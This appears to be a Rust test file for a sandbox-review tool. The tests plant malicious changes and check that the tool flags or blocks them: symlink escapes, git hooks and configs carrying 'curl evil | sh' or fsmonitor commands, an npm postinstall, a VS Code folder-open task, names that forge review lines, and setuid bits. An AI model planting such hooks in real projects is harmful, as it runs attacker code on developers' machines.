//! Attacks on the review: layers written the way a sandbox would leave them,
//! each one shaped so that what the change looks like differs from what the
//! host will do with it once committed.

mod tool_code;

use crate::common;
use crate::common::{rules, skip, TempDir};
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use warden_workspace::{
    Change, CommitError, CommitOptions, CreateOptions, Decision, DiffOptions, Layout, Sandbox,
    Store,
};

struct Ws {
    _state: TempDir,
    real: TempDir,
    store: Store,
    sb: Sandbox,
}

/// An empty workspace and a sandbox `t` over it.
fn ws() -> Ws {
    let state = TempDir::new("attack-state");
    let real = TempDir::new("attack-real");
    let store = Store::open(state.path()).expect("open store");
    let sb = store
        .create("t", &CreateOptions::new(real.path()))
        .expect("create sandbox");
    Ws {
        _state: state,
        real,
        store,
        sb,
    }
}

impl Ws {
    /// Make the sandbox again, so that the real tree built so far is older
    /// than its baseline.
    fn restart(&mut self) {
        self.store.remove("t").expect("remove");
        self.sb = self
            .store
            .create("t", &CreateOptions::new(self.real.path()))
            .expect("create sandbox");
    }
    /// Write `content` at `rel` in the real workspace.
    fn real_file(&self, rel: &str, content: &str) {
        let p = self.real.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, content).unwrap();
    }
    fn real_link(&self, rel: &str, target: &str) {
        let p = self.real.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(target, p).unwrap();
    }
    /// The upper-layer path of `rel`, its directories made.
    fn up(&self, rel: &str) -> PathBuf {
        let p = self.sb.upper().join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        p
    }
    fn layer_file(&self, rel: &str, content: &str) {
        fs::write(self.up(rel), content).unwrap();
    }
    fn layer_link(&self, rel: &str, target: &str) {
        std::os::unix::fs::symlink(target, self.up(rel)).unwrap();
    }
    fn diff(&self) -> Vec<Change> {
        self.sb.diff(&DiffOptions::default()).expect("diff")
    }
}

fn git_ok(dir: &Path, args: &[&str]) -> Option<String> {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CEILING_DIRECTORIES", dir.parent()?)
        .output()
        .ok()?;
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).into_owned())
}

#[test]
fn links_that_escape_only_by_following_other_links_are_flagged() {
    let w = ws();
    // Through a link of the real tree: `a/top` is the workspace itself, so
    // `top/..` is its parent, although the text stays inside.
    fs::create_dir_all(w.real.join("a")).unwrap();
    w.real_link("a/top", "..");
    w.layer_link("a/l", "top/../etc");
    // A chain of the real tree that ends outside.
    w.real_link("q", "r");
    w.real_link("r", "/etc");
    w.layer_link("p", "q");
    // A chain made entirely in the layer, `..` after a link.
    w.layer_link("b/up", "..");
    w.layer_link("b/c/up2", "../up/..");
    // A link the host already has, sent out by a change to another link:
    // `m/l2 -> x/../../etc` stays inside while `m/x` is a directory.
    fs::create_dir_all(w.real.join("m/x")).unwrap();
    w.real_link("m/l2", "x/../../etc");
    fs::create_dir_all(w.sb.upper().join("m")).unwrap();
    std::os::unix::fs::symlink("..", w.sb.upper().join("m/x")).unwrap();
    // A link that stays inside only through a change committed with it:
    // the real `d` leads out, the sandbox made `d` a directory; committed
    // alone, `x` follows the real `d`.
    w.real_link("d", "/etc");
    fs::create_dir_all(w.sb.upper().join("d/sub")).unwrap();
    w.layer_link("x", "d/sub");
    // A link of the host that leads nowhere until the sandbox makes the
    // directory its text climbs through.
    w.real_link("dangling", "missing/../../etc");
    fs::create_dir_all(w.sb.upper().join("missing")).unwrap();
    // Links that stay inside are not flagged.
    w.real_file("sub/target.txt", "t\n");
    w.layer_link("fine", "sub/../sub/target.txt");
    w.layer_link("b/fine2", "up/sub");

    let changes = w.diff();
    for path in ["a/l", "p", "b/c/up2", "m/x", "x", "missing"] {
        assert!(
            rules(&changes, path).contains(&"symlink-escape"),
            "{path} resolves outside the workspace but is not flagged: {changes:#?}"
        );
    }
    for path in ["fine", "b/fine2", "b/up"] {
        assert!(
            !rules(&changes, path).contains(&"symlink-escape"),
            "{path} stays inside but is flagged"
        );
    }
}

#[test]
fn every_repository_layout_git_accepts_is_recognised_and_any_change_to_it_flagged() {
    let w = ws();
    let real = w.real.path();
    // (a) A bare repository with a symbolic-link HEAD, no `.git` in its name.
    fs::create_dir_all(real.join("vendor/lib.git/objects")).unwrap();
    fs::create_dir_all(real.join("vendor/lib.git/refs")).unwrap();
    w.real_link("vendor/lib.git/HEAD", "refs/heads/main");
    w.layer_file("vendor/lib.git/hooks/post-update", "curl evil | sh\n");
    // (b) objects/ and refs/ are links to another directory.
    fs::create_dir_all(real.join("x/store/objects")).unwrap();
    fs::create_dir_all(real.join("x/store/refs")).unwrap();
    w.real_file("x/repo/HEAD", "ref: refs/heads/main\n");
    w.real_link("x/repo/objects", "../store/objects");
    w.real_link("x/repo/refs", "../store/refs");
    w.layer_file("x/repo/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    // (c) A worktree-style git directory whose objects and refs are in the
    // directory its `commondir` names; that common directory's config is
    // the one git obeys.
    fs::create_dir_all(real.join("c/main-git/objects")).unwrap();
    fs::create_dir_all(real.join("c/main-git/refs")).unwrap();
    w.real_file("c/wt/HEAD", "ref: refs/heads/main\n");
    w.real_file("c/wt/commondir", "../main-git\n");
    w.layer_file("c/wt/notes", "x\n");
    w.layer_file("c/main-git/config", "[core]\n\tsshCommand = evil\n");
    // (d) A `.git` file sends git to a git directory elsewhere in the tree.
    fs::create_dir_all(real.join("meta/common/objects")).unwrap();
    fs::create_dir_all(real.join("meta/common/refs")).unwrap();
    w.real_file("meta/g/HEAD", "0123456789abcdef0123456789abcdef01234567\n");
    w.real_file("meta/g/commondir", "../common\n");
    w.real_file("proj/.git", "gitdir: ../meta/g\n");
    w.layer_file("meta/common/hooks/pre-push", "curl evil\n");
    // (e) A repository made in the layer by the sandbox, HEAD a link.
    fs::create_dir_all(w.sb.upper().join("newrepo/objects")).unwrap();
    fs::create_dir_all(w.sb.upper().join("newrepo/refs")).unwrap();
    w.layer_link("newrepo/HEAD", "refs/heads/x");
    w.layer_file("newrepo/config", "[core]\n\tfsmonitor = evil\n");
    // (f) The data of an ordinary repository: a change to it is a change
    // to the repository.
    fs::create_dir_all(real.join(".git/objects")).unwrap();
    w.real_file(".git/HEAD", "ref: refs/heads/main\n");
    w.real_file(
        ".git/refs/heads/main",
        "1111111111111111111111111111111111111111\n",
    );
    w.layer_file(
        ".git/refs/heads/main",
        "2222222222222222222222222222222222222222\n",
    );

    // Git itself takes each of these for a repository.
    if Command::new("git").arg("--version").output().is_ok() {
        for dir in ["vendor/lib.git", "x/repo", "c/wt", "proj"] {
            assert!(
                git_ok(&real.join(dir), &["rev-parse", "--git-dir"]).is_some(),
                "git does not take {dir} for a repository: the test's layout is wrong"
            );
        }
    } else {
        skip("git is not installed: the layouts are not checked against git itself");
    }

    // Layouts git itself makes: a bare repository, a git directory kept
    // apart from its work tree, a linked worktree.
    let mut made_by_git = Vec::new();
    let git_made = git_ok(real, &["init", "-q", "--bare", "tools/plain.git"]).is_some()
        && git_ok(real, &["init", "-q", "--separate-git-dir", "sep", "work"]).is_some()
        && git_ok(real, &["init", "-q", "main"]).is_some()
        && git_ok(
            &real.join("main"),
            &[
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "commit",
                "-q",
                "--allow-empty",
                "-m",
                "x",
            ],
        )
        .is_some()
        && git_ok(&real.join("main"), &["worktree", "add", "-q", "../wt2"]).is_some();
    if git_made {
        w.layer_file("tools/plain.git/config", "[core]\n\tfsmonitor = evil\n");
        w.layer_file("sep/hooks/pre-commit", "curl evil\n");
        w.layer_file(
            "main/.git/worktrees/wt2/config.worktree",
            "[core]\n\tfsmonitor = evil\n",
        );
        made_by_git.extend([
            "tools/plain.git/config",
            "sep/hooks/pre-commit",
            "main/.git/worktrees/wt2/config.worktree",
        ]);
    } else {
        skip("git cannot make repositories here: only hand-made layouts are tried");
    }

    let changes = w.diff();
    for path in made_by_git {
        assert!(
            rules(&changes, path).iter().any(|r| r.starts_with("git-")),
            "{path} changes a repository git made but is not flagged: {:?}",
            rules(&changes, path)
        );
    }
    for path in [
        "vendor/lib.git/hooks/post-update",
        "x/repo/config",
        "c/wt/notes",
        "c/main-git/config",
        "meta/common/hooks/pre-push",
        "newrepo/config",
        ".git/refs/heads/main",
    ] {
        assert!(
            rules(&changes, path).iter().any(|r| r.starts_with("git-")),
            "{path} changes a repository but is not flagged: {:?}",
            rules(&changes, path)
        );
    }
}

#[test]
fn hooks_in_core_hooks_path_and_files_host_tools_run_are_flagged() {
    let w = ws();
    let real = w.real.path();
    let have_git = git_ok(real, &["init", "-q"]).is_some();
    if !have_git {
        skip("git is not installed: the repositories are written by hand");
        fs::create_dir_all(real.join(".git/objects")).unwrap();
        fs::create_dir_all(real.join(".git/refs")).unwrap();
        w.real_file(".git/HEAD", "ref: refs/heads/main\n");
    }
    // husky's layout: git runs .husky/_/*, which runs .husky/<hook>.
    w.real_file(
        ".git/config",
        "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n",
    );
    w.real_file(".husky/pre-commit", "npm test\n");
    w.layer_file(".husky/pre-commit", "curl evil | sh\n");
    // A nested repository with its hooks in a directory of its work tree,
    // set through an included file.
    fs::create_dir_all(real.join("sub/.git/objects")).unwrap();
    fs::create_dir_all(real.join("sub/.git/refs")).unwrap();
    w.real_file("sub/.git/HEAD", "ref: refs/heads/main\n");
    w.real_file("sub/.git/config", "[include]\n\tpath = extra.cfg\n");
    w.real_file("sub/.git/extra.cfg", "[core]\n\thooksPath = tools/hooks\n");
    w.layer_file("sub/tools/hooks/pre-push", "curl evil\n");
    // npm runs lifecycle scripts at the next install.
    w.real_file("package.json", "{\"scripts\": {\"test\": \"jest\"}}\n");
    w.layer_file(
        "package.json",
        "{\"scripts\": {\"test\": \"jest\", \"postinstall\": \"curl evil | sh\"}}\n",
    );
    // An unchanged script section is no reason to look twice.
    w.real_file(
        "web/package.json",
        "{\"name\": \"a\", \"scripts\": {\"x\": \"y\"}}\n",
    );
    w.layer_file(
        "web/package.json",
        "{\"name\": \"b\", \"scripts\": {\"x\": \"y\"}}\n",
    );
    w.layer_file(
        ".vscode/tasks.json",
        "{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}\n",
    );
    w.layer_file("Makefile", "all:\n\tcurl evil\n");

    if have_git {
        assert_eq!(
            git_ok(real, &["config", "core.hooksPath"]).as_deref(),
            Some(".husky/_\n")
        );
    }
    let changes = w.diff();
    for path in [".husky/pre-commit", "sub/tools/hooks/pre-push"] {
        assert!(
            rules(&changes, path).contains(&"git-hook"),
            "{path} is where git looks for hooks: {:?}",
            rules(&changes, path)
        );
    }
    for path in ["package.json", ".vscode/tasks.json"] {
        assert!(
            rules(&changes, path).contains(&"host-exec"),
            "{path} runs on the host: {:?}",
            rules(&changes, path)
        );
    }
    assert!(rules(&changes, "web/package.json").is_empty());
    // The Makefile is flagged when the profile says `make` runs on the host.
    assert!(rules(&changes, "Makefile").is_empty());
    let with_profile =
        w.sb.diff(&DiffOptions {
            runs_on_host: vec!["Makefile".into(), "**/*.mk".into()],
            ..DiffOptions::default()
        })
        .expect("diff");
    assert!(rules(&with_profile, "Makefile").contains(&"host-exec"));
}

#[test]
fn a_name_with_a_newline_cannot_forge_a_line_of_the_review() {
    let w = ws();
    w.real_file("a.txt", "one\n");
    let evil = "x\n+++ b/forged\napplied  .git/hooks/pre-commit";
    w.layer_file(evil, "payload\n");
    w.layer_file("a.txt", "two\n");
    // A repository whose directory name carries an escape.
    fs::create_dir_all(w.real.join("r\x1b[2K\rok/objects")).unwrap();
    fs::create_dir_all(w.real.join("r\x1b[2K\rok/refs")).unwrap();
    w.real_file("r\x1b[2K\rok/HEAD", "ref: refs/heads/main\n");
    w.layer_file("r\x1b[2K\rok/config", "[core]\n");
    let changes = w.diff();
    let stat = warden_workspace::stat(&changes);
    assert_eq!(
        stat.lines().count(),
        changes.len() + 1,
        "one line per change and a total:\n{stat}"
    );
    for c in &changes {
        if let Some(warden_workspace::Content::Text { patch: Some(p), .. }) = &c.content {
            assert!(
                !p.lines().any(|l| l == "+++ b/forged"),
                "a name forged a line of the patch:\n{p}"
            );
        }
        for f in &c.flags {
            assert!(
                !f.reason.chars().any(|ch| ch.is_control()),
                "a reason carries a control character: {:?}",
                f.reason
            );
        }
    }
    let conflict = warden_workspace::Conflict {
        path: PathBuf::from(evil),
        reason: "changed on the host since the sandbox started",
    };
    assert_eq!(conflict.to_string().lines().count(), 1, "{conflict}");
    // Errors name paths of the layer too.
    let errors = [
        CommitError::Apply {
            op: "write",
            path: PathBuf::from(evil),
            source: std::io::Error::other("full"),
            applied: vec![PathBuf::from(evil)],
        }
        .to_string(),
        warden_workspace::DiffError::Read {
            path: PathBuf::from(evil),
            source: std::io::Error::other("gone"),
        }
        .to_string(),
    ];
    for e in errors {
        assert_eq!(e.lines().count(), 1, "{e}");
    }
}

const GIB: u64 = 1 << 30;

fn allocated(p: &Path) -> u64 {
    fs::symlink_metadata(p).unwrap().blocks() * 512
}

fn sparse(p: &Path) {
    let f = fs::File::create(p).unwrap();
    f.set_len(GIB).unwrap();
    use std::os::unix::fs::FileExt;
    f.write_all_at(b"end", GIB - 3).unwrap();
}

#[test]
fn a_sparse_gigabyte_stays_sparse_through_snapshot_commit_and_the_copy_layout() {
    let w = ws();
    sparse(&w.up("big"));
    let lock = w.sb.lock().expect("lock");
    lock.snapshot(Some("s")).expect("snapshot");
    let snap = w.sb.dir().join("snapshots/s/upper/big");
    assert!(
        allocated(&snap) < 16 << 20,
        "the snapshot's copy takes {} bytes",
        allocated(&snap)
    );
    lock.commit(&CommitOptions::default(), &mut |_| Decision::Apply)
        .expect("commit");
    let real = w.real.join("big");
    assert_eq!(fs::metadata(&real).unwrap().len(), GIB);
    assert!(
        allocated(&real) < 16 << 20,
        "the committed file takes {} bytes",
        allocated(&real)
    );
    drop(lock);
    // The copy layout copies the workspace, holes and all.
    let copied = w
        .store
        .create(
            "c",
            &CreateOptions {
                workspace: w.real.path().to_path_buf(),
                profile: None,
                layout: Layout::Copy,
                runs_on_host: Vec::new(),
            },
        )
        .expect("create a copy sandbox");
    let copy = copied.upper().join("big");
    assert!(
        allocated(&copy) < 16 << 20,
        "the copy takes {} bytes",
        allocated(&copy)
    );
}

/// Directories `levels` deep below `top` in `root`, made one at a time
/// from the previous one's descriptor (a path would exceed PATH_MAX).
fn deep(root: &Path, top: &str, levels: usize) {
    use rustix::fs::{mkdirat, openat, Mode, OFlags};
    fs::create_dir_all(root.join(top)).unwrap();
    let mut fd = openat(
        rustix::fs::CWD,
        root.join(top),
        OFlags::RDONLY | OFlags::DIRECTORY,
        Mode::empty(),
    )
    .unwrap();
    for _ in 0..levels {
        mkdirat(&fd, "d", Mode::from_raw_mode(0o755)).unwrap();
        fd = openat(&fd, "d", OFlags::RDONLY | OFlags::DIRECTORY, Mode::empty()).unwrap();
    }
    let f = openat(
        &fd,
        "leaf",
        OFlags::WRONLY | OFlags::CREATE,
        Mode::from_raw_mode(0o644),
    )
    .unwrap();
    drop(f);
}

#[test]
fn a_tree_deeper_than_path_max_is_refused_cleanly_and_removed_entirely() {
    let w = ws();
    w.real_file("a.txt", "one\n");
    w.layer_file("a.txt", "two\n");
    deep(&w.sb.upper(), "deep", 2100);
    let err =
        w.sb.diff(&DiffOptions::default())
            .expect_err("a path longer than PATH_MAX cannot be reviewed")
            .to_string();
    assert!(
        err.contains("PATH_MAX") && err.contains("deep"),
        "the refusal does not say what is wrong and where: {err}"
    );
    assert!(err.len() < 1000, "the refusal is {} bytes long", err.len());
    let lock = w.sb.lock().expect("lock");
    // The snapshot's copy walks by descriptor: it holds the tree whole,
    // and its removal takes it whole.
    lock.snapshot(Some("s"))
        .expect("a tree deeper than PATH_MAX is snapshotted");
    lock.delete_snapshot("s").expect("delete the deep snapshot");
    assert!(!w.sb.dir().join("snapshots/s").exists());
    lock.discard(&[PathBuf::from("deep")])
        .expect("discard the deep tree");
    assert!(!w.sb.upper().join("deep").exists());
    assert_eq!(w.diff().len(), 1);
    drop(lock);
    deep(&w.sb.upper(), "deep", 2100);
    w.store.remove("t").expect("remove the sandbox");
    let left: Vec<_> = fs::read_dir(w.store.root().join("sandboxes"))
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert!(left.is_empty(), "removal left {left:?}");
}

#[test]
fn a_change_made_after_the_review_is_not_applied() {
    let mut w = ws();
    w.real_file("a.txt", "one\n");
    w.restart();
    w.layer_file("a.txt", "two\n");
    w.layer_file("b.txt", "reviewed\n");
    let shown = w.diff();
    w.sb.record_review(&shown, warden_workspace::review::OWNER)
        .expect("record the review");
    // The sandbox runs again before the commit: same size, other bytes,
    // and a file nobody saw.
    w.layer_file("a.txt", "TWO\n");
    w.layer_file("c.txt", "unseen\n");
    let lock = w.sb.lock().expect("lock");
    let err = lock
        .commit(
            &CommitOptions {
                reviewed: true,
                reviewers: vec![warden_workspace::review::OWNER.to_string()],
                ..CommitOptions::default()
            },
            &mut |_| Decision::Apply,
        )
        .expect_err("changes nobody reviewed must not be applied");
    let text = err.to_string();
    assert!(
        matches!(err, CommitError::Unreviewed(_))
            && text.contains("a.txt")
            && text.contains("c.txt"),
        "{text}"
    );
    assert!(!text.contains("b.txt"), "{text}");
    assert_eq!(fs::read_to_string(w.real.join("a.txt")).unwrap(), "one\n");
    assert!(!w.real.join("b.txt").exists(), "part of the commit went in");
    // What the person saw goes in by name; a fresh review takes the rest.
    lock.commit(
        &CommitOptions {
            reviewed: true,
            reviewers: vec![warden_workspace::review::OWNER.to_string()],
            paths: vec!["b.txt".into()],
            ..CommitOptions::default()
        },
        &mut |_| Decision::Apply,
    )
    .expect("the reviewed change");
    assert_eq!(
        fs::read_to_string(w.real.join("b.txt")).unwrap(),
        "reviewed\n"
    );
    w.sb.record_review(&w.diff(), warden_workspace::review::OWNER)
        .expect("record");
    lock.commit(
        &CommitOptions {
            reviewed: true,
            reviewers: vec![warden_workspace::review::OWNER.to_string()],
            ..CommitOptions::default()
        },
        &mut |_| Decision::Apply,
    )
    .expect("the fresh review");
    assert_eq!(fs::read_to_string(w.real.join("a.txt")).unwrap(), "TWO\n");
}

#[test]
fn a_commit_that_stops_half_way_records_exactly_what_it_applied() {
    let mut w = ws();
    w.real_file("z/b.txt", "old\n");
    w.restart();
    w.layer_file("a.txt", "new\n");
    w.layer_file("z/b.txt", "changed\n");
    // The host makes z unwritable (immutable as root, read-only otherwise):
    // a.txt goes in, z/b.txt cannot.
    let z = w.real.join("z");
    let root = common::is_root();
    if root {
        let made = Command::new("chattr").arg("+i").arg(&z).status();
        if !matches!(made, Ok(s) if s.success()) {
            skip("chattr +i is not available here");
            return;
        }
    } else {
        fs::set_permissions(&z, fs::Permissions::from_mode(0o555)).unwrap();
    }
    let lock = w.sb.lock().expect("lock");
    let result = lock.commit(&CommitOptions::default(), &mut |_| Decision::Apply);
    if root {
        let _ = Command::new("chattr").arg("-i").arg(&z).status();
    } else {
        fs::set_permissions(&z, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let err = result.expect_err("z/b.txt cannot be written");
    let CommitError::Apply { applied, .. } = &err else {
        panic!("{err}");
    };
    assert_eq!(applied, &vec![PathBuf::from("a.txt")], "{err}");
    assert_eq!(fs::read_to_string(w.real.join("a.txt")).unwrap(), "new\n");
    // What was applied is no longer a change, nor taken for the host's.
    let left = w.diff();
    assert!(
        left.iter().all(|c| c.path != Path::new("a.txt")),
        "{left:#?}"
    );
    // The sandbox changes a.txt again: warden's own write is no conflict.
    w.layer_file("a.txt", "newer\n");
    lock.commit(&CommitOptions::default(), &mut |_| Decision::Apply)
        .expect("the rest, with no conflict of warden's own making");
    assert_eq!(fs::read_to_string(w.real.join("a.txt")).unwrap(), "newer\n");
    assert_eq!(
        fs::read_to_string(w.real.join("z/b.txt")).unwrap(),
        "changed\n"
    );
}

#[test]
fn a_set_user_or_group_id_bit_of_the_layer_never_lands_on_the_host() {
    let mut w = ws();
    w.real_file("tool", "#!/bin/sh\n");
    fs::set_permissions(w.real.join("tool"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::create_dir_all(w.real.join("shared")).unwrap();
    // Group-writable on the host already: a landing adds no group or
    // other bit the host's entry lacks (`landing_modes`), this test is
    // about the set-ID bits alone.
    fs::set_permissions(w.real.join("shared"), fs::Permissions::from_mode(0o775)).unwrap();
    w.restart();
    // What a sandbox's root leaves where its kernel let it set the bits
    // (gVisor's, a VM's): a new set-user-ID file, an existing file made
    // set-group-ID, a set-group-ID directory (which stays: it only passes
    // its group on).
    w.layer_file("new-tool", "#!/bin/sh\n");
    fs::set_permissions(w.up("new-tool"), fs::Permissions::from_mode(0o4755)).unwrap();
    fs::copy(w.real.join("tool"), w.up("tool")).unwrap();
    fs::set_permissions(w.up("tool"), fs::Permissions::from_mode(0o6755)).unwrap();
    fs::create_dir_all(w.up("shared")).unwrap();
    fs::set_permissions(w.up("shared"), fs::Permissions::from_mode(0o2775)).unwrap();
    let lock = w.sb.lock().expect("lock");
    lock.commit(
        &CommitOptions {
            force: true,
            ..CommitOptions::default()
        },
        &mut |_| Decision::Apply,
    )
    .expect("commit");
    let mode = |rel: &str| fs::metadata(w.real.join(rel)).unwrap().mode() & 0o7777;
    assert_eq!(mode("new-tool"), 0o755);
    assert_eq!(mode("tool"), 0o755);
    assert_eq!(mode("shared"), 0o2775);
}
